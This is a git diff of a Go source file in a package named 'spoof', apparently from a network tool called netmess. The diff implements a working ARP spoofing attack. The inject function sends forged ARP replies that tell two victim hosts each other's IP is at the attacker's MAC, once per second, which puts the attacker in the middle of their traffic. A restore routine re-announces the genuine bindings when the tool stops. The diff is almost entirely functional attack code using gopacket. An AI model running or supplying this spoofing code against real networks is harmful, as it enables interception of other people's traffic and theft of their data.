@@ -3,22 +3,32 @@ package spoof
 import (
 	"context"
 	"errors"
+	"github.com/google/gopacket/layers"
+	"github.com/tinygoprogs/netmess/discovery"
+	"log"
 	"net"
 	"time"
 )
 
 // implements Spoof interface
 type Arp struct {
+	stats
 	// packets are injected every InjectRate
 	InjectRate time.Duration
 	// stops packet injection context
 	cancel context.CancelFunc
+	// closed once inject_loop returned
+	done chan struct{}
+
+	net *discovery.Network
+	// as requested, a host's other addresses are left alone
+	targets [2]discovery.Host
 }
 
 // Either supply one or two ip addresses.
 // If only a single ip is supplied, the default gateway of that network is used
 // as destination.
-func NewArp(n *Network, ip ...string) (*Arp, error) {
+func NewArp(n *discovery.Network, ip ...string) (*Arp, error) {
 	if l := len(ip); l > 2 || l == 0 {
 		return nil, errors.New("rtfm")
 	}
@@ -43,18 +53,27 @@ func NewArp(n *Network, ip ...string) (*Arp, error) {
 
 	arp := Arp{
 		InjectRate: time.Millisecond * 1000,
+		net:        n,
+	}
+	for i, ip := range []net.IP{lhost, rhost} {
+		host, err := n.GetHostByIP(ip.String())
+		if err != nil {
+			return nil, err
+		}
+		arp.targets[i] = discovery.Host{Addr: ip, Mac: host.Mac}
 	}
 
 	return &arp, nil
 }
 
 func (arp *Arp) inject_loop(ctx context.Context) {
+	defer close(arp.done)
 	ticker := time.NewTicker(arp.InjectRate)
 	defer ticker.Stop()
 	for {
+		arp.inject()
 		select {
 		case <-ticker.C:
-			arp.inject()
 		case <-ctx.Done():
 			return
 		}
@@ -65,16 +84,61 @@ func (arp *Arp) inject_loop(ctx context.Context) {
 func (arp *Arp) Start() error {
 	var ctx context.Context
 	ctx, arp.cancel = context.WithCancel(context.Background())
+	arp.done = make(chan struct{})
 	go arp.inject_loop(ctx)
 	return nil
 }
 
 // stop the injector (and try to restore messed up network)
 func (arp *Arp) Stop() {
+	if arp.cancel == nil {
+		// never started
+		return
+	}
 	arp.cancel()
-	// TODO: arp.restore()
+	// a last injection must not undo the restore
+	<-arp.done
+	for i := 0; i < 3; i++ {
+		arp.restore()
+	}
+	log.Printf("[+] arp: restored %v <-> %v", arp.targets[0].Addr, arp.targets[1].Addr)
 }
 
+// Tell each target that the other one is at our MAC.
 func (arp *Arp) inject() {
-	panic("not impl")
+	for i, victim := range arp.targets {
+		other := arp.targets[1-i]
+		arp.reply(victim, other.Addr, arp.net.Localhost.Mac, arp.net.Localhost.Mac)
+		arp.hit(victim.Addr.String())
+	}
+}
+
+// re-announce the genuine bindings; the frames come from our MAC, as sending
+// from the genuine ones teaches switches that the targets are on our port
+func (arp *Arp) restore() {
+	for i, victim := range arp.targets {
+		other := arp.targets[1-i]
+		arp.reply(victim, other.Addr, arp.net.Localhost.Mac, other.Mac)
+	}
+}
+
+// ARP reply to <victim>: <ip> is-at <mac>.
+func (arp *Arp) reply(victim discovery.Host, ip net.IP, src, mac net.HardwareAddr) {
+	leth := layers.Ethernet{
+		SrcMAC:       src,
+		DstMAC:       victim.Mac,
+		EthernetType: layers.EthernetTypeARP,
+	}
+	larp := layers.ARP{
+		AddrType:          layers.LinkTypeEthernet,
+		Protocol:          layers.EthernetTypeIPv4,
+		HwAddressSize:     6,
+		ProtAddressSize:   4,
+		Operation:         layers.ARPReply,
+		SourceHwAddress:   mac,
+		SourceProtAddress: ip.To4(),
+		DstHwAddress:      victim.Mac,
+		DstProtAddress:    victim.Addr.To4(),
+	}
+	arp.write(arp.net, &leth, &larp)
 }